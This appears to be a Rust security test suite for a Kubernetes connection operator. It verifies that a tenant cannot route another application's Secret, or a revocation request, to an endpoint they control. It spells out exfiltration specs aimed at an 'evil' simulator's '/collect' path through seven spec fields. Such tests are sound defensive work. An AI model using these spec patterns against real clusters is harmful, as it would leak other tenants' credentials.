//! A user who may write Connections, and not read Secrets, lets the operator send another
//! application's Secret to an endpoint of their own.

use kube::api::DeleteParams;
use rig::simulator::Simulator;
use rig::simulator::behavior::Behavior;
use rig::simulator::grants::settings::{Client, Settings};
use rig::wait;
use serde_json::{Value, json};

use crate::attacks::installation::{at_another_host, restrict_to_hosts, tenant};
use crate::stage::{SOON, Scene, message};

const CANARY: &str = "canary-of-another-application";

/// Every field of the spec by which the contents of a Secret travel, with a spec that uses it.
fn ways(secret: &str, endpoint: &str) -> Vec<(&'static str, Value)> {
    let at = json!({ "name": secret, "key": "password" });
    let secret_of_client = |how: &str| {
        json!({
            "flow": "ClientCredentials",
            "endpoints": { "token": endpoint },
            "client": { "id": "thief", "secretRef": at, "authentication": how },
        })
    };
    let ready = |flow: &str| {
        json!({
            "flow": flow,
            "endpoints": { "token": endpoint },
            "client": { "id": "thief" },
            "assertion": { "valueFrom": { "secretKeyRef": at } },
        })
    };
    vec![
        ("spec.client.secretRef", secret_of_client("ClientSecretBasic")),
        ("spec.client.secretRef", secret_of_client("ClientSecretPost")),
        (
            "spec.parametersFrom",
            json!({
                "flow": "ClientCredentials",
                "endpoints": { "token": endpoint },
                "client": { "id": "thief", "authentication": "None" },
                "parametersFrom": [{ "name": "loot", "secretKeyRef": at }],
            }),
        ),
        ("spec.assertion.valueFrom", ready("JWT")),
        ("spec.assertion.valueFrom", ready("JWTClientAssertion")),
        (
            "spec.client.assertion.valueFrom",
            json!({
                "flow": "ClientCredentials",
                "endpoints": { "token": endpoint },
                "client": {
                    "id": "thief",
                    "authentication": "PrivateKeyJWT",
                    "assertion": { "valueFrom": { "secretKeyRef": at } },
                },
            }),
        ),
        (
            "spec.authorization.refreshTokenRef",
            json!({
                "flow": "AuthorizationCode",
                "endpoints": { "token": endpoint },
                "client": { "id": "thief" },
                "authorization": { "refreshTokenRef": at },
            }),
        ),
    ]
}

/// Tries every way to an endpoint; each must be denied in words that name the Secret and the remedy.
async fn assert_denied(scene: &Scene, secret: &str, endpoint: &str) {
    let ways = ways(secret, endpoint);
    let name = |index: usize| format!("{secret}-{index}");
    for (index, (_, spec)) in ways.iter().enumerate() {
        scene.apply(&name(index), spec.clone()).await;
    }
    for (index, (field, _)) in ways.iter().enumerate() {
        let denied = scene.until(&name(index), "Ready", "False", "EndpointNotAllowed").await;
        let text = message(&denied, "Ready");
        for words in [*field, &format!("Secret `{secret}`"), "connection-operator.io/allowed-hosts"]
        {
            assert!(text.contains(words), "{field}: no «{words}» in: {text}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_field_sends_another_applications_secret_to_the_authors_endpoint() {
    let scene = tenant("exfiltration").await;
    let evil = Simulator::start().unwrap();
    let endpoint = at_another_host(&evil, "/collect");
    let data = [("password", CANARY.as_bytes())];
    // One whose owner has never heard of Connections, and one that is pinned to its own provider.
    scene.put_secret("payments", &data).await;
    scene.put_secret("crm", &data).await;
    restrict_to_hosts(&scene, "crm", "127.0.0.1").await;
    for secret in ["payments", "crm"] {
        assert_denied(&scene, secret, &endpoint).await;
    }
    assert_eq!(evil.count(), 0, "nothing was sent");

    // To the host that its owner allows it goes, by every way.
    let honest = Simulator::start().unwrap();
    honest.grant_codes(Settings::new(Client::public("thief", "http://127.0.0.1/")));
    let refresh_token = honest.refresh_token("thief", None);
    scene.put_secret("crm", &[("password", refresh_token.as_bytes())]).await;
    for (index, (_, spec)) in ways("crm", &honest.token_endpoint()).into_iter().enumerate() {
        let name = format!("crm-{index}");
        scene.apply(&name, spec).await;
        scene.until_issued(&name).await;
    }
    assert_eq!(evil.count(), 0, "nothing was sent");
    let secrets = [honest.secrets(), vec![CANARY.to_owned(), refresh_token]].concat();
    scene.assert_no_leak(&secrets).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_existing_grant_cannot_be_revoked_at_the_authors_endpoint() {
    let scene = tenant("revocation").await;
    let (honest, evil) = (Simulator::start().unwrap(), Simulator::start().unwrap());
    evil.otherwise(Behavior::empty(200));
    honest.grant_codes(Settings::new(Client::public("mail", "http://127.0.0.1/")));
    let refresh_token = honest.refresh_token("mail", None);
    scene.put_secret("start", &[("refresh-token", refresh_token.as_bytes())]).await;
    restrict_to_hosts(&scene, "start", "127.0.0.1").await;
    let spec = |revocation: &str| {
        json!({
            "flow": "AuthorizationCode",
            "endpoints": { "token": honest.token_endpoint(), "revocation": revocation },
            "client": { "id": "mail" },
            "authorization": {
                "refreshTokenRef": { "name": "start", "key": "refresh-token" },
                "onDelete": "Revoke",
            },
        })
    };
    scene.apply("mail", spec(&honest.url("/revoke"))).await;
    scene.until_issued("mail").await;
    scene.apply("mail", spec(&at_another_host(&evil, "/collect"))).await;
    scene.until_issued("mail").await;
    scene.connections().delete("mail", &DeleteParams::default()).await.unwrap();
    let denied = |line: &str| {
        let ours = line.contains(scene.namespace.name()) && line.contains("RevocationFailed");
        ours.then(|| line.to_owned())
    };
    let log = &scene.stage.operator.process;
    let denied = log.find_in_log(SOON, "that it is not revoked there", denied).await.unwrap();
    assert!(denied.contains("not the one at consent"), "{denied}");
    assert_eq!(evil.count(), 0, "nothing was sent");

    // Where it was to be revoked when it was issued, it is.
    scene.apply("mail", spec(&honest.url("/revoke"))).await;
    wait::until_true(SOON, "the Connection is gone", async || {
        scene.connections().get_opt("mail").await.unwrap().is_none()
    })
    .await;
    assert!(honest.families()[0].revoked);
    assert_eq!(evil.count(), 0, "nothing was sent");
    scene.assert_no_leak(&[honest.secrets(), vec![refresh_token]].concat()).await;
}
